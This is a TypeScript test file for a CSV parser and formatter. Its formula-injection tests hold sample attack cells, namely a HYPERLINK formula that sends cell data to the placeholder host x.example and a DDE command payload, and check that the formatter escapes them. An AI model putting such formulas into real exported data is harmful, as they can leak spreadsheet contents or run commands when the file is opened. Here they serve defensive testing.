import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { formatCsv, neutraliseCsvCell, parseCsv, restoreCsvCell } from "../../src/domain/Csv.js"

describe("parseCsv", () => {
  it("reads quoted fields with commas, quotes and newlines, keeping each record's first line", () => {
    const text = 'id,name\r\na,"Dakar, ""Plateau"""\nb,"two\nlines"\nc,plain\n'
    const { records, problems } = parseCsv(text)
    expect(problems).toEqual([])
    expect(records).toEqual([
      { line: 1, fields: ["id", "name"] },
      { line: 2, fields: ["a", 'Dakar, "Plateau"'] },
      { line: 3, fields: ["b", "two\nlines"] },
      { line: 5, fields: ["c", "plain"] }
    ])
  })

  it("ignores a byte-order mark and blank lines", () => {
    expect(parseCsv("\uFEFFid\n\na\n\n").records).toEqual([
      { line: 1, fields: ["id"] },
      { line: 3, fields: ["a"] }
    ])
  })

  it("reports a quote that is never closed at the line and column where it opens", () => {
    const { problems } = parseCsv('id,name\na,"open\nb,c\n')
    expect(problems).toEqual([{ line: 2, column: 3, message: expect.stringContaining("unbalanced quotes") }])
  })

  it("reports text after a closing quote and a stray quote inside a field", () => {
    const { records, problems } = parseCsv('id,name\na,"x"y\nb,ab"c\nc,ok\n')
    expect(problems.map((p) => p.line)).toEqual([2, 3])
    expect(records.map((r) => r.fields[0])).toEqual(["id", "c"])
  })

  it("round-trips any table through formatCsv", () => {
    const cell = fc.string({ unit: fc.constantFrom("a", "é", ",", '"', "\n", "\r\n", " ", "ب", "1", "=", "+", "-", "@", "\t", "\r", "'", ".") })
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }).chain((n) => fc.tuple(fc.array(cell, { minLength: n, maxLength: n }), fc.array(fc.array(cell, { minLength: n, maxLength: n }), { maxLength: 8 }))), ([header, rows]) => {
        // a record whose every cell is empty is a blank line; it has no place in a registry file
        const kept = rows.filter((r) => r.length > 1 || r[0] !== "")
        const headerOk = header.length > 1 || header[0] !== ""
        fc.pre(headerOk)
        const parsed = parseCsv(formatCsv(header, kept))
        expect(parsed.problems).toEqual([])
        expect(parsed.records.map((r) => r.fields.map(restoreCsvCell))).toEqual([header, ...kept])
      }),
      { numRuns: 300 }
    )
  })
})

describe("formula injection (OWASP CSV injection)", () => {
  it("puts an apostrophe before a cell that starts with = + - @, a tab or a CR", () => {
    expect(formatCsv(["answer"], [['=HYPERLINK("http://x.example/?"&A1,"click me")'], ["+cmd|' /C calc'!A0"], ["@SUM(1+1)"], ["-1+2"], ["\tx"], ["\rx"]])).toBe(
      'answer\n"\'=HYPERLINK(""http://x.example/?""&A1,""click me"")"\n\'+cmd|\' /C calc\'!A0\n\'@SUM(1+1)\n\'-1+2\n\'\tx\n"\'\rx"\n'
    )
  })

  it("leaves plain numbers as numbers, and other text alone", () => {
    for (const v of ["-2", "-0.5", "+3", "-.5", "-1e3", "12", "+05:45", "-03:00", "Dakar", "a=b", "'tis", ""]) expect(neutraliseCsvCell(v)).toBe(v)
    for (const v of ["-", "--2", "-2-", "- 2", "+1+1", "@", "+05:45+1", "-1:00"]) expect(neutraliseCsvCell(v)).toBe(`'${v}`)
  })

  it("is undone exactly by restoreCsvCell, apostrophes included", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "\t", "\r", "1", ".", "a") }), (v) => {
        const cell = neutraliseCsvCell(v)
        expect(cell).not.toMatch(/^[=@\t\r]/)
        if (/^[+-]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true)
        expect(restoreCsvCell(cell)).toBe(v)
      }),
      { numRuns: 2000 }
    )
  })
})
